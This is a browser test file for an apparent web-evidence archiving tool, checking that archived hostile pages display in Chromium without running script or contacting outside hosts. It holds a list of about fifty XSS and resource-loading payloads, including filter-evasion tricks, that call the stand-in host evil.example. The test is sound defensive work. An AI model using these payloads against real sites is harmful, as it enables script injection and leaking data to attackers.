"""Fifty hostile pages as evidence, looked at in a real Chromium: nothing of them runs, nothing is asked for."""

import os
from contextlib import contextmanager
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import urlsplit

import pytest

from hengping.collect.browser.chromium import find_chromium, needs_no_sandbox
from hengping.evidence.archive import SiteArchive
from hengping.evidence.records import Answer, Asked
from hengping.evidence.run_folder import RunFolder
from hengping.model import codec
from hengping.model.finding import Finding
from hengping.web.policy.words import Stage
from web.judged import judged_world

pytestmark = [pytest.mark.slow, pytest.mark.browser]
RUN = "console.log('RAN');alert('RAN');fetch('http://evil.example/f');top.document.title='RAN'"
OUT = "http://evil.example/x"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<script src='{OUT}.js'></script>",
    f"<script type=module>import('{OUT}.js')</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src='{OUT}.png'>",
    f"<img srcset='{OUT}.png 2x'>",
    f"<picture><source srcset='{OUT}.png'><img src='{OUT}.png'></picture>",
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href='{OUT}.png' xlink:href='{OUT}.png'/></svg>",
    f"<svg><use href='{OUT}.svg#a'/></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"<svg><style>*{{background:url({OUT})}}</style></svg>",
    f"<svg><foreignObject><iframe src='{OUT}'></iframe></foreignObject></svg>",
    f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<iframe src='{OUT}'></iframe>",
    "<iframe srcdoc=\"<script>parent.console.log('RAN')</script>\"></iframe>",
    "<iframe src=\"javascript:alert('RAN')\"></iframe>",
    f"<frameset><frame src='{OUT}'></frameset>",
    f"<object data='{OUT}.swf'></object>",
    f"<embed src='{OUT}.swf'>",
    f"<applet code='{OUT}'></applet>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('RAN')\">",
    f"<meta http-equiv=Content-Security-Policy content='default-src *'><img src='{OUT}'>",
    f"<base href='{OUT}/'><img src=a.png><link rel=stylesheet href=a.css>",
    f"<link rel=stylesheet href='{OUT}.css'>",
    f"<link rel=preload as=script href='{OUT}.js'><link rel=prefetch href='{OUT}'>",
    "<link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='//evil.example'>",
    f"<link rel=icon href='{OUT}.ico'><link rel=manifest href='{OUT}.json'>",
    f"<style>body{{background:url({OUT})}}</style>",
    f"<style>@import '{OUT}.css';</style>",
    f"<style>@im\\70ort '{OUT}.css'; p{{background:u\\72l({OUT})}}</style>",
    f"<style>@font-face{{font-family:a;src:url({OUT}.woff)}}*{{font-family:a}}</style>",
    f"<style>a[href^='h']{{background-image:image-set('{OUT}' 1x)}}</style><a href=http://a>a</a>",
    f"<p style='background:url({OUT})'>x</p>",
    f"<p style='background:image-set(\"{OUT}\" 1x)'>x</p>",
    f"<table background='{OUT}'><tr><td background='{OUT}'>x</td></tr></table>",
    f"<body background='{OUT}' onload=\"{RUN}\">",
    f"<video src='{OUT}.mp4' poster='{OUT}.png' autoplay></video>",
    f"<audio src='{OUT}.mp3' autoplay onerror=\"{RUN}\"></audio>",
    f"<track src='{OUT}.vtt' default><source src='{OUT}.mp4'>",
    f"<input type=image src='{OUT}.png'><input autofocus onfocus=\"{RUN}\">",
    f"<form action='{OUT}' id=f><button autofocus onfocus=\"f.submit();{RUN}\">x</button></form>",
    f'<details open ontoggle="{RUN}">x</details>',
    f'<marquee onstart="{RUN}">x</marquee><dialog open onclose="{RUN}"></dialog>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN.replace(" ", "")}>"></noscript>',
    f"<template shadowrootmode=open><script>{RUN}</script><img src='{OUT}'></template>",
    f'<p data-hengping="x;background:url({OUT})" id=hengping-mark onanimationend="{RUN}">x</p>',
    f"<style>@keyframes a{{}}</style><p style='animation:a 1ms' onanimationstart=\"{RUN}\">x</p>",
    f"<!--><script>{RUN}</script--><xmp></xmp><script>{RUN}</script>",
)
AT = datetime(2026, 11, 20, 2, tzinfo=UTC)


@pytest.fixture(autouse=True)
def _sync_orm(monkeypatch):
    # Playwright's loop runs in this thread; the tables are only read between its calls.
    monkeypatch.setitem(os.environ, "DJANGO_ALLOW_ASYNC_UNSAFE", "true")


@contextmanager
def evil_server(trouble):
    """A server that notes whoever asks it anything, at whatever name."""

    class Noting(BaseHTTPRequestHandler):
        def do_GET(self):
            trouble.append(f"evil server was asked for {self.path}")
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that http.server calls

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Noting)
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def planted(judged):
    """A finding whose evidence is every hostile page."""
    folder = RunFolder(judged.run.path)
    finding = judged.finding("blank_section")
    refs = []
    with SiteArchive(folder.site_evidence(finding.site_code)).open_writer() as writer:
        for number, payload in enumerate(PAYLOADS):
            body = f"<!doctype html><html><head>{payload}</head><body><p>正文</p>{payload}<p>完</p></body></html>"
            asked = Asked(
                url=f"{judged.entries[finding.site_code].url}evil{number}.html", purpose="page", fetched_at=AT
            )
            answer = Answer(status=200, headers=(("Content-Type", "text/html; charset=utf-8"),), payload=body.encode())
            refs.append(writer.add_response(asked, answer).ref)
    path = folder.findings_file(finding.site_code)
    rows = [codec.decode(line, Finding) for line in path.read_bytes().splitlines()]
    changed = [
        codec.decode(codec.encode(row).replace(codec.encode(row.evidence), codec.encode(tuple(refs))), Finding)
        if row.finding_id == finding.finding_id else row
        for row in rows
    ]  # fmt: skip
    path.write_bytes(codec.encode_lines(changed))
    return finding, [ref.record_id.removeprefix("urn:uuid:") for ref in refs]


def test_nothing_runs_and_nothing_is_asked_for(transactional_db, live_server, world, small_outcome, settings, tmp_path):
    sync_api = pytest.importorskip("playwright.sync_api")
    chromium = find_chromium()
    if chromium is None:
        pytest.skip("no Chromium found")
    judged = judged_world(world, small_outcome.run.path, settings, tmp_path)
    judged.at(Stage.PRELIMINARY)
    finding, records = planted(judged)
    assert len(records) >= 50
    cookie = judged.client("organiser").cookies["sessionid"].value
    base = f"{live_server.url}/campaigns/{judged.campaign.pk}/sites/{finding.site_code}/findings/{finding.finding_id}/"
    trouble: list[str] = []
    with evil_server(trouble) as port, sync_api.sync_playwright() as play:
        args = ["--no-sandbox"] if needs_no_sandbox() else []
        args.append(f"--host-resolver-rules=MAP evil.example:80 127.0.0.1:{port}")
        browser = play.chromium.launch(executable_path=str(chromium), args=args)
        context = browser.new_context()
        context.add_cookies([{"name": "sessionid", "value": cookie, "url": live_server.url}])
        page = context.new_page()
        page.on("dialog", lambda dialog: (trouble.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("console", lambda told: trouble.append(told.text) if told.text == "RAN" else None)
        asked = []
        # What the policy stops is announced as a request too; what counts is what was answered, and the evil server.
        page.on("response", lambda answer: asked.append(answer.url))
        shown = 0
        for number, record in enumerate(records):
            asked.clear()
            answer = page.goto(f"{base}records/{record}/page/", wait_until="load")
            assert answer.status == 200
            shown += "正文" in page.content()
            trouble += [f"{number}: {url}" for url in asked if not url.endswith(f"{record}/page/")]
        assert shown >= 40, "pages are shown, not emptied"
        asked.clear()
        page.goto(base, wait_until="load")
        for frame in page.locator("iframe").all():
            frame.scroll_into_view_if_needed()
        page.wait_for_load_state("networkidle")
        trouble += [url for url in asked if urlsplit(url).netloc != urlsplit(live_server.url).netloc]
        assert sum("/page/" in url for url in asked) >= 4, "the frames were shown"
        assert page.title().startswith("空白栏目") or "RAN" not in page.title()
        page.goto("http://evil.example/control", wait_until="load")
        browser.close()
    assert "evil server was asked for /control" in trouble, "it would have noticed"
    assert [each for each in trouble if "/control" not in each and "favicon" not in each] == []
